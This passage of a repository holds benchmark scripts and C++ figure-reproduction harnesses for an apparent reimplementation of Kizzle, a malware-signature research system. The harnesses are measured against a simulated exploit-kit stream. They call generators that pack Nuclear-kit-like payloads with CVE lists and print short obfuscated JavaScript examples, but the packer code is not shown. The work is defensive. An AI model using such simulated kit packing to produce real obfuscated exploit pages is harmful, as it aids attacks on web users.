"$BUILD/bench_micro" \
  --benchmark_filter='BM_ClusterPairwise|BM_DbscanEndToEnd|BM_TokenDbscanDay|BM_EditDistance' \
  --benchmark_out="$OUT" --benchmark_out_format=json

echo "wrote $OUT"
