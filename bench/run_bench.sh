#!/usr/bin/env bash
# Runs the clustering and streaming-scan benches, emitting google-benchmark
# JSON:
#   BENCH_cluster.json  per-bench real/cpu time plus the DbscanStats
#                       counters (dp, pruned_length/histogram/sketch,
#                       graph_seconds)
#   BENCH_stream.json   the unified engine's steady-state scan
#                       (BM_EngineScanManySignatures, warm Scratch), the
#                       chunked deployment-channel scan
#                       (BM_StreamingScan/<chunk> vs BM_StreamingScanOneShot)
#                       and release-artifact load vs per-process automaton
#                       rebuild (BM_BundleColdStartLoad vs
#                       BM_BundleColdStartBuild)
#   BENCH_scan.json     single-stream scan throughput: the Teddy SIMD
#                       literal first stage vs the forced Aho-Corasick walk
#                       (BM_TeddyPrefilter vs BM_TeddyPrefilterAutomaton,
#                       first stage in isolation) and the same comparison
#                       end to end through the engine
#                       (BM_EngineScanManySignatures vs
#                       BM_EngineScanManySignaturesAutomaton), plus
#                       BM_ScanManySignatures for the whole-database
#                       trajectory; also the release-motion rows gated by
#                       --compare: zero-copy mmap cold start vs the istream
#                       copy-in load (BM_BundleColdStartLoadMmap vs
#                       BM_BundleColdStartLoad) and KZDELTA incremental
#                       apply vs full artifact reload at serving scale
#                       (BM_DeployDeltaApply vs BM_DeployFullReload)
#   BENCH_serve.json    the async scan service under mixed one-shot/stream
#                       load (bench_serve: serve_mixed/clients:{2,8} with
#                       p50/p99/p999 latency and requests-per-second, a
#                       soak with a mid-run lint-gated hot swap, and a
#                       typed-shed overload phase)
#
# Usage: bench/run_bench.sh [build-dir] [cluster-out.json] [stream-out.json]
#                           [scan-out.json] [serve-out.json]
#        bench/run_bench.sh --compare <baseline.json> [candidate.json]
#                           [tolerance]
#
# The headline comparisons: BM_ClusterPairwise vs BM_ClusterPairwiseScalar
# items_per_second (unordered pairs resolved per second),
# BM_StreamingScan bytes_per_second against the one-shot pass, and
# BM_TeddyPrefilter bytes_per_second against the automaton baseline.
#
# --compare checks the scan series for regressions against a baseline JSON
# (e.g. the checked-in BENCH_scan.json or BENCH_serve.json): per shared
# benchmark row, the candidate's real_time may exceed the baseline's by at
# most `tolerance` (default 0.30 = +30%, benchmarks are noisy). When
# candidate.json is omitted, the scan series is run fresh from <build-dir
# or ./build> — and if bench_serve is built there, its quick-mode rows
# (p99 latency as real_time) are merged into the candidate so a serve
# baseline gates serving latency alongside scan throughput.
# Exits 1 on any regression, 2 when the files share no rows.
set -euo pipefail

SCAN_FILTER='BM_TeddyPrefilter|BM_ScanManySignatures/|BM_EngineScanManySignatures|BM_BundleColdStartLoad|BM_Deploy'

if [[ "${1:-}" == "--compare" ]]; then
  BASELINE="${2:?usage: run_bench.sh --compare <baseline.json> [candidate.json] [tolerance]}"
  CANDIDATE="${3:-}"
  TOL="${4:-0.30}"
  if [[ -z "$CANDIDATE" ]]; then
    BUILD="${BENCH_BUILD:-build}"
    if [[ ! -x "$BUILD/bench_micro" ]]; then
      echo "error: $BUILD/bench_micro not found (set BENCH_BUILD)." >&2
      exit 1
    fi
    CANDIDATE="$(mktemp "${TMPDIR:-/tmp}/bench_scan.XXXXXX.json")"
    "$BUILD/bench_micro" --benchmark_filter="$SCAN_FILTER" \
      --benchmark_out="$CANDIDATE" --benchmark_out_format=json
    if [[ -x "$BUILD/bench_serve" ]]; then
      SERVE_CANDIDATE="$(mktemp "${TMPDIR:-/tmp}/bench_serve.XXXXXX.json")"
      "$BUILD/bench_serve" --quick "$SERVE_CANDIDATE"
      python3 - "$CANDIDATE" "$SERVE_CANDIDATE" <<'EOF'
import json
import sys

# Merge the serve rows into the scan candidate: one candidate file, one
# compare pass, rows matched by name as usual.
with open(sys.argv[1]) as f:
    scan = json.load(f)
with open(sys.argv[2]) as f:
    serve = json.load(f)
scan.setdefault("benchmarks", []).extend(serve.get("benchmarks", []))
with open(sys.argv[1], "w") as f:
    json.dump(scan, f, indent=1)
EOF
      rm -f "$SERVE_CANDIDATE"
    fi
  fi
  python3 - "$BASELINE" "$CANDIDATE" "$TOL" <<'EOF'
import json
import sys

base_path, cand_path, tol = sys.argv[1], sys.argv[2], float(sys.argv[3])


def rows(path):
    with open(path) as f:
        data = json.load(f)
    return {
        b["name"]: b
        for b in data.get("benchmarks", [])
        if b.get("run_type", "iteration") == "iteration"
    }


base, cand = rows(base_path), rows(cand_path)
shared = sorted(set(base) & set(cand))
if not shared:
    print(f"error: no shared benchmark rows between {base_path} and {cand_path}")
    sys.exit(2)
bad = []
print(f"{'benchmark':55s} {'baseline':>12s} {'candidate':>12s} {'ratio':>7s}")
for name in shared:
    b, c = base[name]["real_time"], cand[name]["real_time"]
    ratio = c / b if b else float("inf")
    flag = ""
    if ratio > 1.0 + tol:
        bad.append(name)
        flag = "  REGRESSION"
    print(f"{name:55s} {b:12.0f} {c:12.0f} {ratio:7.2f}{flag}")
print(f"{len(shared)} rows compared, tolerance +{tol:.0%}")
if bad:
    print("regressions: " + ", ".join(bad))
    sys.exit(1)
EOF
  exit $?
fi

BUILD="${1:-build}"
OUT="${2:-BENCH_cluster.json}"
STREAM_OUT="${3:-BENCH_stream.json}"
SCAN_OUT="${4:-BENCH_scan.json}"
SERVE_OUT="${5:-BENCH_serve.json}"

if [[ ! -x "$BUILD/bench_micro" ]]; then
  echo "error: $BUILD/bench_micro not found or not executable." >&2
  echo "Configure with google-benchmark installed: cmake -B $BUILD -S . && cmake --build $BUILD -j" >&2
  exit 1
fi

"$BUILD/bench_micro" \
  --benchmark_filter='BM_ClusterPairwise|BM_DbscanEndToEnd|BM_TokenDbscanDay|BM_EditDistance' \
  --benchmark_out="$OUT" --benchmark_out_format=json

echo "wrote $OUT"

"$BUILD/bench_micro" \
  --benchmark_filter='BM_EngineScan|BM_StreamingScan|BM_BundleColdStart|BM_PrefilterBuild|BM_PrefilterLoad' \
  --benchmark_out="$STREAM_OUT" --benchmark_out_format=json

echo "wrote $STREAM_OUT"

"$BUILD/bench_micro" \
  --benchmark_filter="$SCAN_FILTER" \
  --benchmark_out="$SCAN_OUT" --benchmark_out_format=json

echo "wrote $SCAN_OUT"

if [[ -x "$BUILD/bench_serve" ]]; then
  "$BUILD/bench_serve" "$SERVE_OUT"
  echo "wrote $SERVE_OUT"
else
  echo "note: $BUILD/bench_serve not built, skipping $SERVE_OUT" >&2
fi
