#!/usr/bin/env bash
# Runs the clustering and streaming-scan benches, emitting google-benchmark
# JSON:
#   BENCH_cluster.json  per-bench real/cpu time plus the DbscanStats
#                       counters (dp, pruned_length/histogram/sketch,
#                       graph_seconds)
#   BENCH_stream.json   the unified engine's steady-state scan
#                       (BM_EngineScanManySignatures, warm Scratch), the
#                       chunked deployment-channel scan
#                       (BM_StreamingScan/<chunk> vs BM_StreamingScanOneShot)
#                       and release-artifact load vs per-process automaton
#                       rebuild (BM_BundleColdStartLoad vs
#                       BM_BundleColdStartBuild)
#   BENCH_scan.json     single-stream scan throughput: the Teddy SIMD
#                       literal first stage vs the forced Aho-Corasick walk
#                       (BM_TeddyPrefilter vs BM_TeddyPrefilterAutomaton,
#                       first stage in isolation) and the same comparison
#                       end to end through the engine
#                       (BM_EngineScanManySignatures vs
#                       BM_EngineScanManySignaturesAutomaton), plus
#                       BM_ScanManySignatures for the whole-database
#                       trajectory
#
# Usage: bench/run_bench.sh [build-dir] [cluster-out.json] [stream-out.json]
#                           [scan-out.json]
#
# The headline comparisons: BM_ClusterPairwise vs BM_ClusterPairwiseScalar
# items_per_second (unordered pairs resolved per second),
# BM_StreamingScan bytes_per_second against the one-shot pass, and
# BM_TeddyPrefilter bytes_per_second against the automaton baseline.
set -euo pipefail

BUILD="${1:-build}"
OUT="${2:-BENCH_cluster.json}"
STREAM_OUT="${3:-BENCH_stream.json}"
SCAN_OUT="${4:-BENCH_scan.json}"

if [[ ! -x "$BUILD/bench_micro" ]]; then
  echo "error: $BUILD/bench_micro not found or not executable." >&2
  echo "Configure with google-benchmark installed: cmake -B $BUILD -S . && cmake --build $BUILD -j" >&2
  exit 1
fi

"$BUILD/bench_micro" \
  --benchmark_filter='BM_ClusterPairwise|BM_DbscanEndToEnd|BM_TokenDbscanDay|BM_EditDistance' \
  --benchmark_out="$OUT" --benchmark_out_format=json

echo "wrote $OUT"

"$BUILD/bench_micro" \
  --benchmark_filter='BM_EngineScan|BM_StreamingScan|BM_BundleColdStart|BM_PrefilterBuild|BM_PrefilterLoad' \
  --benchmark_out="$STREAM_OUT" --benchmark_out_format=json

echo "wrote $STREAM_OUT"

"$BUILD/bench_micro" \
  --benchmark_filter='BM_TeddyPrefilter|BM_ScanManySignatures/|BM_EngineScanManySignatures' \
  --benchmark_out="$SCAN_OUT" --benchmark_out_format=json

echo "wrote $SCAN_OUT"
