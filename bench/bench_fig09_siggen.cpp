// Fig 9: "An example of signature generation in action" — the paper's
// three-sample cluster, the per-offset value analysis, and the emitted
// signature.
#include <cstdio>

#include "match/pattern.h"
#include "sig/compiler.h"
#include "support/table.h"
#include "text/lexer.h"

int main() {
  using namespace kizzle;

  std::printf("Fig 9: signature generation in action\n\n");
  const std::vector<std::string> sources = {
      R"(Euur1V =  this   ["l9D"]   ("ev#333399al")  ;)",
      R"(jkb0hA   =  this   ["uqA"]   ("ev#ccff00al")  ;)",
      R"(QB0Xk    =  this   ["k3LSC"]  ("ev#33cc00al")   ;)",
  };
  for (const auto& s : sources) std::printf("  %s\n", s.c_str());
  std::printf("\n");

  sig::CompilerParams params;
  params.min_tokens = 3;  // the example is tiny
  const sig::Signature signature =
      sig::compile_signature_from_sources(sources, params);
  if (!signature.ok) {
    std::printf("signature compilation failed: %s\n",
                signature.failure.c_str());
    return 1;
  }

  Table table({"offset", "kind", "values / literal"});
  for (std::size_t j = 0; j < signature.columns.size(); ++j) {
    const sig::Column& col = signature.columns[j];
    std::string kind;
    std::string values;
    if (col.is_literal) {
      kind = "literal";
      values = col.literal;
    } else if (col.backref_of >= 0) {
      kind = "backref";
      values = "= offset " + std::to_string(col.backref_of);
    } else {
      kind = "class";
      for (std::size_t v = 0; v < col.values.size(); ++v) {
        if (v) values += " | ";
        values += col.values[v];
      }
    }
    table.add_row({std::to_string(j), kind, values});
  }
  std::printf("%s\n", table.to_string().c_str());

  std::printf("generated signature (%zu tokens, %zu chars):\n  %s\n\n",
              signature.token_length, signature.length(),
              signature.pattern.c_str());
  std::printf("paper's signature for the same cluster:\n  %s\n\n",
              R"([A-Za-z0-9]{5,6}=this\[[A-Za-z0-9]{3,5}\]\(.{11}\);)");

  const auto compiled = match::Pattern::compile(signature.pattern);
  for (const auto& probe :
       {"Euur1V=this[l9D](ev#333399al);", "jkb0hA=this[uqA](ev#ccff00al);",
        "XXnew1=this[q0Z](ev#aabbccal);"}) {
    std::printf("  matches %-42s -> %s\n", probe,
                compiled.found_in(probe) ? "yes" : "no");
  }
  return 0;
}
