// Ablations over the tuning knobs the paper's §V calls out ("how many
// samples do we need to define a cluster, how long should the generated
// signatures be, etc."): the DBSCAN threshold around the paper's 0.10,
// minPts, the winnowing parameters, and the 200-token signature cap.
// Each setting runs a one-week campaign at reduced volume.
#include <cstdio>

#include "bench_common.h"
#include "eval/experiment.h"
#include "support/table.h"

namespace {

using namespace kizzle;

struct Outcome {
  double fn_rate;
  double fp_rate;
  double clusters_per_day;
  std::size_t signatures;
};

Outcome run(eval::ExperimentConfig cfg) {
  cfg.stream.volume_scale = 0.3 * bench::env_scale();
  cfg.stream.start_day = kitgen::kAug1;
  cfg.stream.end_day = kitgen::kAug1 + 6;
  eval::MonthlyExperiment experiment(cfg);
  const auto result = experiment.run();
  const auto sum = result.sum();
  double clusters = 0;
  for (const auto& day : result.days) {
    clusters += static_cast<double>(day.clusters);
  }
  return Outcome{
      result.total_malicious
          ? static_cast<double>(sum.kizzle_fn) / result.total_malicious
          : 0.0,
      result.total_benign
          ? static_cast<double>(sum.kizzle_fp) / result.total_benign
          : 0.0,
      clusters / static_cast<double>(result.days.size()),
      result.kizzle_signatures.size()};
}

void emit(Table& table, const std::string& label, const Outcome& o) {
  table.add_row({label, bench::pct(o.fn_rate, 1), bench::pct(o.fp_rate, 3),
                 std::to_string(o.clusters_per_day).substr(0, 5),
                 std::to_string(o.signatures)});
}

}  // namespace

int main() {
  std::printf("Ablations over Kizzle's tuning knobs (one-week runs)\n\n");

  {
    Table table({"DBSCAN eps", "Kizzle FN", "Kizzle FP", "clusters/day",
                 "signatures"});
    for (const double eps : {0.02, 0.05, 0.10, 0.20, 0.35}) {
      eval::ExperimentConfig cfg;
      cfg.pipeline.dbscan.eps = eps;
      emit(table, std::to_string(eps).substr(0, 4), run(cfg));
    }
    std::printf("%s", table.to_string().c_str());
    std::printf("paper: eps = 0.10 \"generates a reasonably small number of "
                "clusters, while not\ngenerating clusters that are too "
                "generic\".\n\n");
  }
  {
    Table table({"minPts", "Kizzle FN", "Kizzle FP", "clusters/day",
                 "signatures"});
    for (const std::size_t min_mass : {2, 3, 5, 10, 25}) {
      eval::ExperimentConfig cfg;
      cfg.pipeline.dbscan.min_mass = min_mass;
      emit(table, std::to_string(min_mass), run(cfg));
    }
    std::printf("%s", table.to_string().c_str());
    std::printf("higher minPts suppresses small clusters: rare kits (RIG) "
                "stop clustering and\ntheir FN rises — the paper's "
                "low-volume-variant failure mode.\n\n");
  }
  {
    Table table({"winnow k/w", "Kizzle FN", "Kizzle FP", "clusters/day",
                 "signatures"});
    const std::pair<std::size_t, std::size_t> kw[] = {
        {4, 2}, {8, 4}, {16, 8}, {32, 16}};
    for (const auto& [k, w] : kw) {
      eval::ExperimentConfig cfg;
      cfg.pipeline.winnow.k = k;
      cfg.pipeline.winnow.window = w;
      emit(table,
           std::to_string(k) + "/" + std::to_string(w), run(cfg));
    }
    std::printf("%s", table.to_string().c_str());
    std::printf("larger k-grams make labeling stricter (less FP-prone, "
                "more FN-prone).\n\n");
  }
  {
    Table table({"sig cap (tokens)", "Kizzle FN", "Kizzle FP",
                 "clusters/day", "signatures"});
    for (const std::size_t cap : {25, 50, 100, 200, 400}) {
      eval::ExperimentConfig cfg;
      cfg.pipeline.signature.max_tokens = cap;
      emit(table, std::to_string(cap), run(cfg));
    }
    std::printf("%s", table.to_string().c_str());
    std::printf("paper caps the common token window at 200 tokens; shorter "
                "caps yield weaker\n(less specific) signatures.\n");
  }
  return 0;
}
