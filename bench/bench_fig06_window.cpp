// Fig 6: "Window of vulnerability for Angler in August, 2014" — daily
// false-negative rates for the Angler kit, commercial AV vs Kizzle. The
// window opens on 8/13 (the kit moves the Java marker string into the
// packed body and changes its eval split) and closes with the AV release
// on 8/19.
#include <cstdio>

#include "bench_common.h"
#include "support/table.h"

int main() {
  using namespace kizzle;
  const auto result = bench::run_month(
      "Fig 6: Window of vulnerability for Angler in August 2014");

  const std::size_t ang = kitgen::family_index(kitgen::KitFamily::Angler);
  Table table({"date", "Angler samples", "AV FN %", "Kizzle FN %"});
  for (const eval::DayMetrics& m : result.days) {
    const auto& f = m.family[ang];
    const double av = f.total ? static_cast<double>(f.av_fn) / f.total : 0.0;
    const double kz =
        f.total ? static_cast<double>(f.kizzle_fn) / f.total : 0.0;
    table.add_row({kitgen::date_label(m.day), std::to_string(f.total),
                   bench::pct(av, 1), bench::pct(kz, 1)});
  }
  std::printf("%s\n", table.to_string().c_str());

  // The paper's red call-out: the AV signature release closing the window.
  for (const av::AvRelease& r : result.av_releases) {
    if (r.family == kitgen::KitFamily::Angler &&
        r.day > kitgen::day_from_date(8, 13)) {
      std::printf("AV signature release closing the window: %s on %s\n",
                  r.name.c_str(), kitgen::date_label(r.day).c_str());
      break;
    }
  }
  std::printf(
      "\nExpected shape: AV FN near zero before 8/13, ~50%% plateau during "
      "8/13-8/19, back to baseline after; Kizzle shows only a small bump on "
      "8/13.\n");
  return 0;
}
