// Fig 2: "CVEs used for each malware kit (as of September 2014)."
#include <cstdio>
#include <map>

#include "kitgen/kit.h"
#include "support/table.h"

int main() {
  using namespace kizzle;
  using kitgen::PluginTarget;

  std::printf("Fig 2: CVEs used for each malware kit (as of September 2014)\n\n");
  Table table({"EK", "Flash", "Silverlight", "Java", "Adobe Reader",
               "Internet Explorer", "AV check"});
  for (const kitgen::KitInfo& kit : kitgen::kit_catalog()) {
    std::map<PluginTarget, std::string> by_target;
    for (const kitgen::CveEntry& cve : kit.cves) {
      std::string& cell = by_target[cve.target];
      if (!cell.empty()) cell += ", ";
      cell += cve.cve;
    }
    auto cell = [&](PluginTarget t) {
      auto it = by_target.find(t);
      return it == by_target.end() ? std::string("-") : it->second;
    };
    table.add_row({std::string(kitgen::family_name(kit.family)),
                   cell(PluginTarget::Flash), cell(PluginTarget::Silverlight),
                   cell(PluginTarget::Java), cell(PluginTarget::AdobeReader),
                   cell(PluginTarget::InternetExplorer),
                   kit.av_check ? "Yes" : "No"});
  }
  std::printf("%s\n", table.to_string().c_str());
  return 0;
}
