// Fig 14: "False positives and false negatives: absolute counts comparing
// Kizzle vs. AV" — per-kit ground truth, FP and FN totals over the month.
#include <cstdio>

#include "bench_common.h"
#include "support/table.h"

int main() {
  using namespace kizzle;
  const auto result =
      bench::run_month("Fig 14: absolute FP/FN counts, Kizzle vs AV");

  Table table({"EK", "Ground truth", "AV FP", "AV FN", "Kizzle FP",
               "Kizzle FN"});
  // The paper's row order.
  const kitgen::KitFamily order[] = {
      kitgen::KitFamily::Nuclear, kitgen::KitFamily::SweetOrange,
      kitgen::KitFamily::Angler, kitgen::KitFamily::Rig};
  for (kitgen::KitFamily f : order) {
    const auto& t = result.totals[kitgen::family_index(f)];
    table.add_row({std::string(kitgen::family_name(f)),
                   std::to_string(t.ground_truth), std::to_string(t.av_fp),
                   std::to_string(t.av_fn), std::to_string(t.kizzle_fp),
                   std::to_string(t.kizzle_fn)});
  }
  const eval::FamilyTotals sum = result.sum();
  table.add_row({"Sum", std::to_string(sum.ground_truth),
                 std::to_string(sum.av_fp), std::to_string(sum.av_fn),
                 std::to_string(sum.kizzle_fp), std::to_string(sum.kizzle_fn)});
  std::printf("%s\n", table.to_string().c_str());

  std::printf("paper (at ~25x our stream volume):\n");
  std::printf("  EK            Ground truth  AV FP  AV FN  Kizzle FP  Kizzle FN\n");
  std::printf("  Nuclear       6,106         1      1,671  25         8\n");
  std::printf("  Sweet Orange  11,315        0      2      0          1\n");
  std::printf("  Angler        40,026        635    4,213  0          196\n");
  std::printf("  RIG           1,409         11     30     241        144\n");
  std::printf("  Sum           58,856        647    7,587  266        349\n");
  std::printf(
      "\nShapes to check: AV FN is dominated by Nuclear + Angler (signature "
      "windows);\nAV FP is dominated by Angler (one overly-generic "
      "signature); Kizzle FP comes\nfrom RIG and Nuclear mislabels; RIG is "
      "Kizzle's weakest kit.\n");
  return 0;
}
