// §IV "Cluster-Based Processing Performance": the paper used 50 machines
// for the map step and reports ~90-minute daily runs with the reduce step
// as the bottleneck, and 280-1,200 clusters per day. This bench sweeps the
// partition count (simulated machines) on one day of full-volume stream
// and reports map/reduce wall-clock, the reduce merge workload, and the
// cluster counts.
#include <cstdio>

#include "core/pipeline.h"
#include "kitgen/stream.h"
#include "support/table.h"

int main() {
  using namespace kizzle;

  std::printf("Cluster-based processing performance (paper SIV)\n\n");

  // One day's deduplicated stream, prepared once.
  kitgen::StreamConfig scfg;
  kitgen::StreamSimulator sim(scfg);
  const auto batch = sim.generate_day(kitgen::kAug1);
  std::printf("daily stream: %zu samples (%zu benign, %zu malicious)\n\n",
              batch.samples.size(), batch.benign_count,
              batch.malicious_count);

  Table table({"partitions", "threads", "clusters", "pre-merge", "map (s)",
               "graph (s)", "reduce (s)", "map DPs", "sketch-pruned",
               "reduce DPs"});
  for (const std::size_t partitions : {1, 2, 4, 8, 16, 50}) {
    core::PipelineConfig pcfg;
    pcfg.partitions = partitions;
    pcfg.threads = 0;  // hardware concurrency
    core::KizzlePipeline pipeline(pcfg, 7);
    for (const auto& [family, payload] : sim.seed_corpus()) {
      pipeline.seed_family(std::string(kitgen::family_name(family)), 0.60,
                           payload);
    }
    std::vector<std::string> htmls;
    for (const auto& s : batch.samples) htmls.push_back(s.html);
    const core::DayReport report =
        pipeline.process_day(kitgen::kAug1, htmls);
    const auto& st = report.cluster_stats;
    table.add_row({std::to_string(partitions), "hw",
                   std::to_string(report.n_clusters),
                   std::to_string(st.clusters_before_merge),
                   std::to_string(st.map_seconds).substr(0, 6),
                   std::to_string(st.map.graph_seconds).substr(0, 6),
                   std::to_string(st.reduce_seconds).substr(0, 6),
                   std::to_string(st.map.dp_computations),
                   std::to_string(st.map.pairs_pruned_sketch),
                   std::to_string(st.reduce.dp_computations)});
  }
  std::printf("%s\n", table.to_string().c_str());
  std::printf(
      "Shapes to check: cluster counts are stable across partitionings "
      "(the reduce\nmerge reassembles split clusters); reduce work grows "
      "with the partition count\n— the bottleneck the paper reports. "
      "Paper: 280-1,200 clusters/day; ~90 min\ndaily runs on 50 machines + "
      "1 reducer at 80k-500k samples/day.\n");
  return 0;
}
