// Fig 13: "False positives and false negatives over time for a month-long
// time window: Kizzle vs. AV" — daily rates across all kits.
#include <cstdio>

#include "bench_common.h"
#include "support/table.h"

int main() {
  using namespace kizzle;
  const auto result =
      bench::run_month("Fig 13: false positives / false negatives over time");

  std::printf("(a) false positives for all kits\n\n");
  Table fp({"date", "benign", "AV FP %", "Kizzle FP %"});
  for (const eval::DayMetrics& m : result.days) {
    fp.add_row({kitgen::date_label(m.day), std::to_string(m.n_benign),
                bench::pct(m.av_fp_rate(), 3),
                bench::pct(m.kizzle_fp_rate(), 3)});
  }
  std::printf("%s\n", fp.to_string().c_str());

  std::printf("(b) false negatives for all kits\n\n");
  Table fn({"date", "malicious", "AV FN %", "Kizzle FN %"});
  for (const eval::DayMetrics& m : result.days) {
    fn.add_row({kitgen::date_label(m.day), std::to_string(m.n_malicious),
                bench::pct(m.av_fn_rate(), 1),
                bench::pct(m.kizzle_fn_rate(), 1)});
  }
  std::printf("%s\n", fn.to_string().c_str());

  const eval::FamilyTotals sum = result.sum();
  std::printf("month totals: Kizzle FP rate %s (paper: under 0.03%%), "
              "Kizzle FN rate %s (paper: under 5%%)\n",
              bench::pct(static_cast<double>(sum.kizzle_fp) /
                             static_cast<double>(result.total_benign),
                         3)
                  .c_str(),
              bench::pct(static_cast<double>(sum.kizzle_fn) /
                             static_cast<double>(result.total_malicious),
                         1)
                  .c_str());
  std::printf(
      "Expected shape: AV FN spikes between 8/13 and 8/21 (the Angler "
      "window and the\nlate-August Nuclear churn); Kizzle stays low "
      "throughout.\n");
  return 0;
}
