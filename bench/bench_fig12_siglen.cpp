// Fig 12: "Signature lengths over time for a month-long time window" —
// the length (in characters) of the latest deployed Kizzle signature per
// kit per day; every bump is a freshly-issued signature. The red
// call-outs of the paper (manual AV signature releases) are printed as
// annotations below the series.
#include <cstdio>

#include "bench_common.h"
#include "support/table.h"

int main() {
  using namespace kizzle;
  const auto result = bench::run_month("Fig 12: signature lengths over time");

  Table table({"date", "RIG", "Angler", "Sweet orange", "Nuclear"});
  std::size_t last[4] = {0, 0, 0, 0};
  std::vector<std::string> bumps;
  for (const eval::DayMetrics& m : result.days) {
    const std::size_t rig =
        m.family[kitgen::family_index(kitgen::KitFamily::Rig)].sig_length;
    const std::size_t ang =
        m.family[kitgen::family_index(kitgen::KitFamily::Angler)].sig_length;
    const std::size_t so = m.family[kitgen::family_index(
                                        kitgen::KitFamily::SweetOrange)]
                               .sig_length;
    const std::size_t nek =
        m.family[kitgen::family_index(kitgen::KitFamily::Nuclear)].sig_length;
    table.add_row({kitgen::date_label(m.day), std::to_string(rig),
                   std::to_string(ang), std::to_string(so),
                   std::to_string(nek)});
    const std::size_t now[4] = {rig, ang, so, nek};
    const char* names[4] = {"RIG", "Angler", "Sweet orange", "Nuclear"};
    for (int i = 0; i < 4; ++i) {
      if (now[i] != last[i] && now[i] != 0) {
        bumps.push_back(std::string(names[i]) + " new signature on " +
                        kitgen::date_label(m.day));
      }
      last[i] = now[i];
    }
  }
  std::printf("%s\n", table.to_string().c_str());

  std::printf("Kizzle signature issues (\"bumps\" in the figure):\n");
  for (const std::string& b : bumps) std::printf("  %s\n", b.c_str());

  std::printf("\nManual AV signature releases (the red call-outs):\n");
  for (const av::AvRelease& r : result.av_releases) {
    std::printf("  %-10s %s\n", r.name.c_str(),
                kitgen::date_label(r.day).c_str());
  }
  std::printf(
      "\nExpected shape: a staircase — Kizzle re-signs within hours of "
      "every packer\nchange, while the AV releases lag by days.\n");
  return 0;
}
