// Shared setup for the figure-reproduction harnesses: one full simulated
// August 2014 campaign. Scale with KIZZLE_BENCH_SCALE (default 1.0) to
// trade fidelity against run time.
#pragma once

#include <cstdio>
#include <cstdlib>
#include <string>

#include "eval/experiment.h"

namespace kizzle::bench {

inline double env_scale() {
  const char* s = std::getenv("KIZZLE_BENCH_SCALE");
  if (s == nullptr) return 1.0;
  const double v = std::atof(s);
  return v > 0.0 ? v : 1.0;
}

inline eval::ExperimentConfig month_config() {
  eval::ExperimentConfig cfg;
  cfg.stream.volume_scale = env_scale();
  cfg.stream.start_day = kitgen::kAug1;
  cfg.stream.end_day = kitgen::kAug31;
  return cfg;
}

inline eval::ExperimentResult run_month(const char* banner) {
  std::printf("%s\n", banner);
  std::printf(
      "(simulated August 2014 grayware stream, volume scale %.2f; set "
      "KIZZLE_BENCH_SCALE to change)\n\n",
      env_scale());
  eval::MonthlyExperiment experiment(month_config());
  return experiment.run();
}

inline std::string pct(double fraction, int precision = 2) {
  char buf[32];
  std::snprintf(buf, sizeof(buf), "%.*f%%", precision, fraction * 100.0);
  return buf;
}

}  // namespace kizzle::bench
