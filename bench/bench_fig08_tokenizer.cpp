// Fig 8: "Tokenization in action" — the paper's example statement, token
// by token — plus tokenizer throughput on kit-sized inputs (the tokenizer
// sits in front of everything Kizzle does; §IV processes gigabytes of
// JavaScript per day).
#include <chrono>
#include <cstdio>

#include "kitgen/families.h"
#include "kitgen/packers.h"
#include "kitgen/payload.h"
#include "support/table.h"
#include "text/lexer.h"

int main() {
  using namespace kizzle;

  std::printf("Fig 8: Tokenization in action\n\n");
  const char* example = R"(var Euur1V = this["l9D"]("ev#333399al");)";
  std::printf("input: %s\n\n", example);
  Table table({"Token", "Class"});
  for (const text::Token& t : text::lex(example)) {
    table.add_row({t.text, std::string(token_class_name(t.cls))});
  }
  std::printf("%s\n", table.to_string().c_str());

  // Throughput on a realistic packed sample.
  Rng rng(42);
  kitgen::PayloadSpec spec;
  spec.family = kitgen::KitFamily::Nuclear;
  spec.cves = kitgen::kit_info(kitgen::KitFamily::Nuclear).cves;
  spec.av_check = true;
  spec.urls = {kitgen::make_landing_url(rng)};
  const std::string packed =
      pack_nuclear(payload_text(spec), kitgen::NuclearPackerState{}, rng);

  const int reps = 200;
  std::size_t tokens = 0;
  const auto t0 = std::chrono::steady_clock::now();
  for (int i = 0; i < reps; ++i) {
    tokens += text::lex(packed).size();
  }
  const double secs =
      std::chrono::duration<double>(std::chrono::steady_clock::now() - t0)
          .count();
  std::printf(
      "throughput: %.1f MB/s (%zu-byte packed Nuclear sample, %zu tokens, "
      "%d reps)\n",
      static_cast<double>(packed.size()) * reps / secs / 1e6, packed.size(),
      tokens / reps, reps);
  return 0;
}
