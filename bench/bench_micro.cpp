// Microbenchmarks (google-benchmark) for the per-module hot paths: the
// tokenizer, edit distance (full vs banded vs pre-filters), winnowing,
// DBSCAN, the regex VM, and the common-window search.
#include <benchmark/benchmark.h>

#include <filesystem>
#include <fstream>
#include <memory>
#include <sstream>

#include "cluster/dbscan.h"
#include "core/deploy.h"
#include "core/sigdb.h"
#include "distance/edit_distance.h"
#include "engine/engine.h"
#include "kitgen/families.h"
#include "kitgen/packers.h"
#include "kitgen/payload.h"
#include "match/pattern.h"
#include "match/prefilter.h"
#include "match/scanner.h"
#include "sig/common_window.h"
#include "support/interner.h"
#include "support/mapped_file.h"
#include "support/rng.h"
#include "support/thread_pool.h"
#include "text/abstraction.h"
#include "text/lexer.h"
#include "text/normalize.h"
#include "winnow/winnow.h"

namespace {

using namespace kizzle;

std::string packed_nuclear_sample(std::uint64_t seed) {
  Rng rng(seed);
  kitgen::PayloadSpec spec;
  spec.family = kitgen::KitFamily::Nuclear;
  spec.cves = kitgen::kit_info(kitgen::KitFamily::Nuclear).cves;
  spec.av_check = true;
  spec.urls = {kitgen::make_landing_url(rng)};
  return pack_nuclear(payload_text(spec), kitgen::NuclearPackerState{}, rng);
}

std::vector<std::uint32_t> random_stream(Rng& rng, std::size_t n,
                                         std::uint32_t alphabet) {
  std::vector<std::uint32_t> s(n);
  for (auto& x : s) x = static_cast<std::uint32_t>(rng.index(alphabet));
  return s;
}

// ------------------------------ lexer ------------------------------

void BM_LexPackedSample(benchmark::State& state) {
  const std::string src = packed_nuclear_sample(1);
  for (auto _ : state) {
    benchmark::DoNotOptimize(text::lex(src));
  }
  state.SetBytesProcessed(static_cast<int64_t>(state.iterations()) *
                          static_cast<int64_t>(src.size()));
}
BENCHMARK(BM_LexPackedSample);

void BM_NormalizeRaw(benchmark::State& state) {
  const std::string src = packed_nuclear_sample(2);
  for (auto _ : state) {
    benchmark::DoNotOptimize(text::normalize_raw(src));
  }
  state.SetBytesProcessed(static_cast<int64_t>(state.iterations()) *
                          static_cast<int64_t>(src.size()));
}
BENCHMARK(BM_NormalizeRaw);

// --------------------------- edit distance ---------------------------

void BM_EditDistanceFull(benchmark::State& state) {
  Rng rng(3);
  const auto n = static_cast<std::size_t>(state.range(0));
  const auto a = random_stream(rng, n, 64);
  auto b = a;
  for (std::size_t i = 0; i < n / 20 + 1; ++i) {
